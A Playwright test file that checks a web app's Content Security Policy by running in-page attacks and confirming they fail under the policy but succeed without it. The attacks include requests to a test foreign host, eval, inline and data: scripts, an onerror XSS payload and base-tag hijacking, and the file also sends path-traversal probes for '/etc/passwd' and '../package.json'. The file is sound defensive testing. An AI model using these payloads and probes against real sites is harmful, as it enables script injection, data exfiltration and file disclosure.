/**
 * Attacks from inside the page, as a table: what a script that found its way in would try, on each host. The same attacks
 * are run on a page without any policy, where they must succeed: an attack that always fails would prove nothing.
 */
import { request as httpRequest } from 'node:http';
import { chromium, type Page } from 'playwright';
import { expect, test } from './fixtures.ts';
import { openOutside, type Outside } from './outside.ts';
import { ReportCenter } from './pages/reportCenter.ts';
import { chromiumArguments, chromiumPath } from './standin/chromium.ts';
import { shownOrigin } from './standin/origin.ts';

/** Runs as a script of the page would: what a driver evaluates itself is exempt from parts of the policy. */
const fromPage = (page: Page, attack: string, outside: string): Promise<string> => page.evaluate(([name, origin]) => new Promise<string>((resolve) => {
  const give = (value: unknown): void => resolve(String(value));
  const attempt = (work: () => unknown): void => {
    try {
      Promise.resolve(work()).then(give, (error: unknown) => give(error instanceof Error ? error.name : error));
    } catch (error) {
      give(error instanceof Error ? error.name : error);
    }
  };
  const loads = (element: HTMLElement): Promise<string> => new Promise((done) => {
    element.addEventListener('load', () => done('loaded'));
    element.addEventListener('error', () => done('refused'));
    document.body.append(element);
    setTimeout(() => done('nothing'), 1500);
  });
  const attacks: Readonly<Record<string, () => unknown>> = {
    'fetch of a foreign address': () => fetch(`${origin}/fetch`).then(() => 'fetched'),
    'XMLHttpRequest': () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.addEventListener('load', () => done('loaded'));
      request.addEventListener('error', () => done('refused'));
      request.open('GET', `${origin}/xhr`);
      request.send();
    }),
    'beacon': () => {
      navigator.sendBeacon(`${origin}/beacon`, 'x');
      return 'handed to the network layer';
    },
    'foreign WebSocket': () => new Promise((done) => {
      const socket = new WebSocket(`${origin.replace('http', 'ws')}/socket`);
      socket.addEventListener('open', () => done('opened'));
      socket.addEventListener('error', () => done('refused'));
    }),
    'event source': () => new Promise((done) => {
      const source = new EventSource(`${origin}/x.events`);
      source.addEventListener('open', () => done('opened'));
      source.addEventListener('error', () => done('refused'));
    }),
    'remote image': () => loads(Object.assign(document.createElement('img'), { src: `${origin}/a.gif` })),
    'remote style sheet': () => loads(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/a.css` })),
    'frame of a foreign page': () => {
      const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/frame` });
      document.body.append(frame);
      return new Promise((done) => setTimeout(() => {
        done(frame.contentWindow === null ? 'refused' : 'asked for');
      }, 800));
    },
    'eval': () => Reflect.apply(Reflect.get(window, 'eval'), window, ['"ran"']),
    'text as a timer': () => new Promise((done) => {
      Object.assign(window, { attacked: false });
      try {
        Reflect.apply(window.setTimeout, window, ['window.attacked = true', 0]);
      } catch (error) {
        done(error instanceof Error ? error.name : error);
      }
      setTimeout(() => done((window as unknown as { attacked: boolean }).attacked ? 'ran' : 'refused'), 300);
    }),
    'new Function': () => (new Function('return "ran"') as () => string)(),
    'inline script': () => {
      const script = document.createElement('script');
      script.append(document.createTextNode('window.attacked = "ran"'));
      document.body.append(script);
      return (window as unknown as { attacked?: unknown }).attacked === 'ran' ? 'ran' : 'refused';
    },
    'markup with a handler': () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.attacked = 1">');
      return 'inserted';
    },
    // Date fields may write plain text this way; markup stays refused after they have been loaded.
    'markup in place of content': () => {
      const box = document.createElement('div');
      document.body.append(box);
      box.innerHTML = '<img src="x" onerror="window.attacked = 1">';
      return 'inserted';
    },
    'foreign script': () => loads(Object.assign(document.createElement('script'), { src: `${origin}/a.js` })),
    'script from data': () => loads(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.attacked="ran"' })),
    'worker from a blob': () => new Promise((done) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")'])));
      worker.addEventListener('message', () => done('ran'));
      worker.addEventListener('error', () => done('refused'));
    }),
    'service worker': () => navigator.serviceWorker.register('/sw.js').then(() => 'registered'),
    'base address': () => {
      document.head.append(Object.assign(document.createElement('base'), { href: `${origin}/` }));
      return document.baseURI.startsWith(origin) ? 'changed' : 'refused';
    },
    'require': () => typeof (window as unknown as Record<string, unknown>)['require'],
    'process': () => typeof (window as unknown as Record<string, unknown>)['process'],
    'module': () => typeof (window as unknown as Record<string, unknown>)['module'],
    'geolocation': () => new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('granted'), () => done('refused'))),
    'notifications': () => Notification.requestPermission(),
    'microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'granted'),
    'clipboard read': () => navigator.clipboard.readText().then(() => 'read'),
  };
  const attack = attacks[name];
  if (attack === undefined) resolve('there is no such attack');
  else setTimeout(() => attempt(attack), 0);
}), [attack, outside] as const);

interface Attack {
  readonly name: string;
  /** What the page may get to see of it. */
  readonly outcomes: readonly string[];
  /** What a page without a policy gets: the proof that the attack works. */
  readonly unguarded: readonly string[];
  /** The directive that must have stopped it; null where there is none for it, or where the bridge simply has nothing. */
  readonly stoppedBy: string | null;
}

const attacks: readonly Attack[] = [
  { name: 'fetch of a foreign address', outcomes: ['TypeError'], unguarded: ['fetched'], stoppedBy: 'connect-src' },
  { name: 'XMLHttpRequest', outcomes: ['refused', 'NetworkError'], unguarded: ['loaded'], stoppedBy: 'connect-src' },
  { name: 'beacon', outcomes: ['handed to the network layer', 'TypeError'], unguarded: ['handed to the network layer'], stoppedBy: 'connect-src' },
  { name: 'foreign WebSocket', outcomes: ['refused', 'SecurityError'], unguarded: ['opened'], stoppedBy: 'connect-src' },
  { name: 'event source', outcomes: ['refused'], unguarded: ['opened'], stoppedBy: 'connect-src' },
  { name: 'remote image', outcomes: ['refused'], unguarded: ['loaded'], stoppedBy: 'img-src' },
  { name: 'remote style sheet', outcomes: ['refused'], unguarded: ['loaded'], stoppedBy: 'style-src-elem' },
  { name: 'frame of a foreign page', outcomes: ['refused', 'asked for'], unguarded: ['asked for'], stoppedBy: 'frame-src' },
  { name: 'eval', outcomes: ['EvalError', 'TypeError'], unguarded: ['ran'], stoppedBy: null },
  { name: 'text as a timer', outcomes: ['refused', 'EvalError', 'TypeError'], unguarded: ['ran'], stoppedBy: null },
  { name: 'new Function', outcomes: ['EvalError', 'TypeError'], unguarded: ['ran'], stoppedBy: null },
  { name: 'inline script', outcomes: ['refused', 'TypeError'], unguarded: ['ran'], stoppedBy: null },
  { name: 'markup with a handler', outcomes: ['TypeError'], unguarded: ['inserted'], stoppedBy: 'require-trusted-types-for' },
  { name: 'markup in place of content', outcomes: ['TypeError'], unguarded: ['inserted'], stoppedBy: 'require-trusted-types-for' },
  { name: 'foreign script', outcomes: ['refused', 'TypeError'], unguarded: ['loaded'], stoppedBy: null },
  { name: 'script from data', outcomes: ['refused', 'TypeError'], unguarded: ['loaded'], stoppedBy: null },
  { name: 'worker from a blob', outcomes: ['refused', 'SecurityError', 'TypeError'], unguarded: ['ran'], stoppedBy: null },
  { name: 'base address', outcomes: ['refused'], unguarded: ['changed'], stoppedBy: 'base-uri' },
];

/** What the browser refuses on pages of ours, or what is not there; a page without a policy proves nothing about it. */
const refusals: readonly (readonly [attack: string, outcomes: readonly string[]])[] = [
  ['service worker', ['SecurityError', 'TypeError', 'NotSupportedError']],
  ['require', ['undefined']],
  ['process', ['undefined']],
  ['module', ['undefined']],
  ['geolocation', ['refused']],
  ['notifications', ['denied']],
  ['microphone', ['NotAllowedError', 'NotFoundError', 'NotSupportedError']],
  ['clipboard read', ['NotAllowedError']],
];

/** Starts to note which directives stop something. */
const watchViolations = (page: Page): Promise<void> => page.evaluate(() => {
  const stopped: string[] = [];
  Object.assign(window, { stopped });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void stopped.push(effectiveDirective));
});
const violations = (page: Page): Promise<readonly string[]> => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped.splice(0));

let outside: Outside;
test.beforeAll(async () => { outside = await openOutside(); });
test.afterAll(() => outside.close());

test('a script in the page gets no code in, nothing out, and no rights', async ({ opened }) => {
  const { page } = opened;
  await new ReportCenter(page).row('smoke/run_a').waitFor();
  // With all that the page loads after its first screen.
  await page.getByRole('group', { name: 'Changed since' }).waitFor();
  outside.seen();
  await watchViolations(page);
  for (const { name, outcomes, stoppedBy } of attacks) {
    expect.soft(outcomes, name).toContain(await fromPage(page, name, outside.origin));
    if (stoppedBy !== null) await expect.poll(() => violations(page), { message: name }).toContain(stoppedBy);
  }
  for (const [name, outcomes] of refusals) expect.soft(outcomes, name).toContain(await fromPage(page, name, outside.origin));
  for (const feature of ['geolocation', 'microphone', 'camera', 'usb']) {
    expect.soft(await page.evaluate((one) => (document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }).featurePolicy.allowsFeature(one), feature), feature).toBe(false);
  }
  expect(await page.evaluate(() => (window as unknown as { attacked?: unknown }).attacked)).not.toBe('ran');
  expect(outside.seen()).toEqual([]);
  if (opened.desktop === null) return;
  const { requests, permissions } = await opened.desktop.state();
  expect(requests.length).toBeGreaterThan(0);
  for (const request of requests) expect(request.url.startsWith('app://sterownia/') || request.cancelled, request.url).toBe(true);
  expect(permissions.length).toBeGreaterThan(0);
  for (const { permission, granted } of permissions) expect(granted, permission).toBe(false);
});

test('the same attacks succeed on a page without a policy', async () => {
  const browser = await chromium.launch({ executablePath: chromiumPath(), args: [...chromiumArguments()] });
  try {
    const page = await browser.newPage();
    for (const { name, unguarded } of attacks) {
      // Each on a page of its own: what one of them changes would help or hinder the next.
      await page.goto(outside.unguarded);
      expect.soft(unguarded, name).toContain(await fromPage(page, name, outside.origin));
    }
    const reached = new Set<string>();
    const missing = (): readonly string[] => {
      for (const path of outside.seen()) reached.add(path);
      return ['/fetch', '/xhr', '/beacon', '/socket', '/x.events', '/a.gif', '/a.css', '/frame', '/a.js'].filter((path) => !reached.has(path));
    };
    await expect.poll(missing).toEqual([]);
  } finally {
    await browser.close();
  }
});

const unlisted = ['/manifest.json', '/package.json', '/../package.json', '/%2e%2e/package.json', '/..%2fpackage.json', '/assets/', '/assets/../manifest.json', '/etc/passwd', '/.stamp'];

/** Exactly this path, which a browser would tidy up first. */
const statusOf = (origin: string, path: string, cookie: string): Promise<number> => new Promise((resolve, reject) => {
  const { hostname, port, host } = new URL(origin);
  httpRequest({ hostname, port, path, headers: { cookie, host } }, (response) => {
    response.resume();
    resolve(response.statusCode ?? 0);
  }).on('error', reject).end();
});

/** As the page's own element gets it; the browser notes the status. */
const statusInPage = (page: Page, url: string): Promise<number> => page.evaluate((address) => new Promise<number>((resolve) => {
  const image = new Image();
  const end = (): void => {
    const [entry] = performance.getEntriesByName(new URL(address).href).slice(-1) as PerformanceResourceTiming[];
    resolve(entry?.responseStatus ?? 0);
  };
  image.addEventListener('load', end);
  image.addEventListener('error', end);
  image.src = address;
}), url);

test('files outside the list of the build are not served', async ({ opened, host }) => {
  const { page } = opened;
  await new ReportCenter(page).row('smoke/run_a').waitFor();
  if (host === 'headless') {
    const { origin } = new URL(opened.url);
    const cookie = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
    expect(await statusOf(origin, '/icon.svg', cookie)).toBe(200);
    for (const path of unlisted) expect(await statusOf(origin, path, cookie), path).toBe(404);
  } else {
    const base = host === 'standin' ? shownOrigin : new URL(opened.url).origin;
    expect(await statusInPage(page, `${base}/icon.svg`)).toBe(200);
    for (const path of unlisted) expect(await statusInPage(page, `${base}${path}`), path).toBe(404);
  }
});
